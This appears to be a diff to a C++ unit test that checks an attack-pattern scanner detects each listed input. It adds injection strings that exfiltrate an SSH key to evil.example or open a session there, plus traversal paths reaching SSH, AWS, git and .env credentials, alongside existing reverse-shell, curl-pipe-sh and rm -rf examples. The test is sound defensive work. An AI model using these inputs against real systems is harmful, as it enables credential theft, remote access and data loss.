@@ -18,6 +18,8 @@ TEST(AttackPatterns, EachFindsItsAttack) {
   ASSERT_NE(scanner, nullptr);
   const PatternExample attacks[] = {
       {"shell_command_chaining", "example.com; curl -s http://x.example/i | sh"},
+      {"shell_command_chaining", "x; scp ~/.ssh/id_rsa a@evil.example:"},
+      {"shell_command_chaining", "x && ssh attacker@evil.example"},
       {"shell_command_chaining", "main && rm -rf ~"},
       {"shell_command_chaining", "x.txt\nnc -e /bin/sh 203.0.113.9 4444"},
       {"shell_command_chaining", "a.txt;/bin/bash -i"},
@@ -29,6 +31,12 @@ TEST(AttackPatterns, EachFindsItsAttack) {
       {"path_traversal", "docs\\..\\..\\windows\\win.ini"},
       {"path_traversal", "..././..././etc/hosts"},
       {"path_traversal", "../etc/shadow"},
+      // One level up into a home directory's credentials (found by an
+      // adversarial review: a server rooted at ~/project reaches them).
+      {"path_traversal", "../.ssh/id_rsa"},
+      {"path_traversal", "..\\.aws\\credentials"},
+      {"path_traversal", "../.env"},
+      {"path_traversal", "../.git-credentials"},
       {"encoded_path_traversal", "%2e%2e%2fetc%2fpasswd"},
       {"encoded_path_traversal", "..%252f..%252fboot.ini"},
       {"encoded_path_traversal", "%c0%ae%c0%ae/etc"},
